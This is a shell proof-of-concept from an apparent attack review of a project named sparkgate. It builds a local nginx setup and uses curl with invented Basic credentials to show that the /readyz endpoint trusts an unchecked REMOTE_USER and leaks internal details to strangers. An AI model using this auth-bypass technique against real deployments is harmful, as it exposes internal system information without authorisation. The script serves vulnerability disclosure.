#!/bin/sh
# PoC (attack review): behind the shipped nginx.conf, /readyz's details ("to a login or this
# machine") go to any stranger who sends made-up Basic credentials.  nginx.conf sets
# "fastcgi_param REMOTE_USER $remote_user" at server level; the /readyz location has no
# auth_basic, and nginx's $remote_user is the user name decoded from whatever Authorization
# header the client sent, checked or not.  health.c readyz_details_allowed() trusts it.
# Needs nginx and a non-loopback address of this machine (ADDR; default: hostname -I's first).
# Run from the repository root after `make`.  No Spark needed (the master is down: the
# details then name its address and the error).
set -eu
ROOT=$(pwd); W=$(mktemp -d); ADDR=${ADDR:-$(hostname -I | awk '{print $1}')}; PORT=${PORT:-18080}
chmod 755 "$W"; mkdir -p "$W/tmp" "$W/files/pub"; printf 'alice:%s\n' "$(openssl passwd -apr1 pw)" > "$W/htpasswd"; chmod 644 "$W/htpasswd"
python3 - "$ROOT" "$W" "$ADDR" "$PORT" <<'PY'
import sys
root, w, addr, port = sys.argv[1:]
src = open(root + '/nginx.conf').read()
src = src.replace('server unix:/run/sparkgate/sparkgate.sock;', 'server unix:%s/sg.sock;' % w)
src = src.replace('listen 80;', 'listen %s:%s;' % (addr, port)).replace('/etc/sparkgate/htpasswd', w + '/htpasswd')
src = src.replace('/var/lib/sparkgate/files/pub/', w + '/files/pub/')
open(w + '/nginx.conf', 'w').write('''worker_processes 1; daemon on; pid %s/nginx.pid; error_log %s/error.log;
events { worker_connections 64; }
http { access_log off; client_body_temp_path %s/tmp/cb; fastcgi_temp_path %s/tmp/fc; proxy_temp_path %s/tmp/px;
uwsgi_temp_path %s/tmp/uw; scgi_temp_path %s/tmp/sc;
%s
}
''' % ((w,) * 7 + (src,)))
PY
"$ROOT/build/sparkgate" --listen "$W/sg.sock" --master spark://127.0.0.1:9 --timeout 2 --log-file "$W/sg.log" & SG=$!
sleep 0.5; chmod 666 "$W/sg.sock"
nginx -c "$W/nginx.conf" -p "$W"; sleep 0.5
echo "== stranger, no credentials (quiet, as promised):"; curl -s "http://$ADDR:$PORT/readyz"; echo
echo "== stranger, Authorization: Basic for a user that does not exist:"; curl -s -u nosuchuser:x "http://$ADDR:$PORT/readyz"; echo
echo "== the same credentials on /v1 (nginx checks them there):"; curl -s -o /dev/null -w '%{http_code}\n' -u nosuchuser:x "http://$ADDR:$PORT/v1/submissions/status/x"
nginx -c "$W/nginx.conf" -p "$W" -s stop; kill $SG; rm -rf "$W"
